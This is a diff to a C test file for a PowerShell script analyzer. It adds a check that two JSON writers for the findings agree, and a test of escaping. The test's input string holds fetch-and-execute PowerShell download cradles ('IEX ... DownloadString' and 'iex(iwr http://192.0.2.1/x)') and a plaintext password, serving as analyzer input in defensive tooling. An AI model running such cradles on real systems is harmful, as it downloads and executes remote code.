@@ -8,6 +8,8 @@
 #include <stdlib.h>
 #include <string.h>
 
+#include <json-c/json.h>
+
 #include "analyzer/analyzer.h"
 #include "core/core.h"
 #include "ps-files.h"
@@ -17,6 +19,25 @@ static int
 name_cmp(const void *a, const void *b)
 {
 	return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+/* ps_analysis_to_json_flags(PS_JSON_FINDINGS_TEXT) writes the same bytes as the json-c tree
+ * (POST /api/scripts/analyze's answer: the findings written as text). */
+static void
+check_text_findings(const struct ps_analysis *a, const char *where)
+{
+	struct json_object *tree = ps_analysis_to_json(a), *fast = ps_analysis_to_json_flags(a,
+	    PS_JSON_FINDINGS_TEXT);
+	const int fl = JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE;
+	const char *x = json_object_to_json_string_ext(tree, fl), *y = json_object_to_json_string_ext(fast, fl);
+	size_t i = 0;
+
+	while (x[i] != '\0' && x[i] == y[i])
+		i++;
+	T_ASSERTF(x[i] == y[i], "%s: the text findings differ at byte %zu: ...%.60s... vs ...%.60s...",
+	    where, i, x + (i > 20 ? i - 20 : 0), y + (i > 20 ? i - 20 : 0));
+	json_object_put(tree);
+	json_object_put(fast);
 }
 
 /* check_file: 1 when every labelled count matches, 0 when one does not, -1 when unlabelled */
@@ -39,6 +60,7 @@ check_file(const char *dir, const char *name, unsigned *rules, unsigned *rules_o
 		buf_free(&b);
 		return -1;
 	}
+	check_text_findings(a, name);
 	for (p = b.data + 7; (n = sscanf(p, " %95[A-Za-z]=%u%n", rule, &want, &used)) == 2;
 	    p += used) {
 		unsigned got = 0;
@@ -94,9 +116,40 @@ test_agreement_with_pssa(void)
 	T_ASSERTF(agree * 100 >= files * 95, "agreement %u of %u is below 95 %%", agree, files);
 }
 
+/* The text findings with what JSON escapes: control characters, quotes, backslashes, tabs,
+ * bytes that are not UTF-8, non-ASCII text, an attack technique's properties and a fix. */
+static void
+test_text_findings_escaping(void)
+{
+	static const char src[] =
+	    "Write-Host 'a\x01" "b\x1f \\ \" q\tt \xff\xfe caf\xc3\xa9 \xe2\x80\xae / <x>'\n"
+	    "gci C:\\ | % { $_.Name }\n"
+	    "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')\n"
+	    "$p = ConvertTo-SecureString 'P@ss' -AsPlainText -Force\n"
+	    "cmd /c \"powershell -c iex(iwr http://192.0.2.1/x -UseBasicParsing)\"\n";
+	struct ps_analysis *a = NULL;
+
+	T_EQ(ps_analyze(src, sizeof(src) - 1, NULL, &a), PSS_OK);
+	T_ASSERT(a != NULL && a->nfindings >= 3);
+	{
+		bool mitre = false, fix = false, ctl = false;
+
+		for (size_t i = 0; a != NULL && i < a->nfindings; i++) {
+			mitre |= a->findings[i].mitre != NULL;
+			fix |= a->findings[i].fix != NULL;
+			ctl |= a->findings[i].extent != NULL && strchr(a->findings[i].extent, '\x01') != NULL;
+		}
+		T_ASSERTF(mitre && fix && ctl, "mitre %d fix %d control %d", mitre, fix, ctl);
+	}
+	if (a != NULL)
+		check_text_findings(a, "escaping");
+	ps_analysis_free(a);
+}
+
 int
 main(void)
 {
 	T_RUN(test_agreement_with_pssa);
+	T_RUN(test_text_findings_escaping);
 	return t_done();
 }
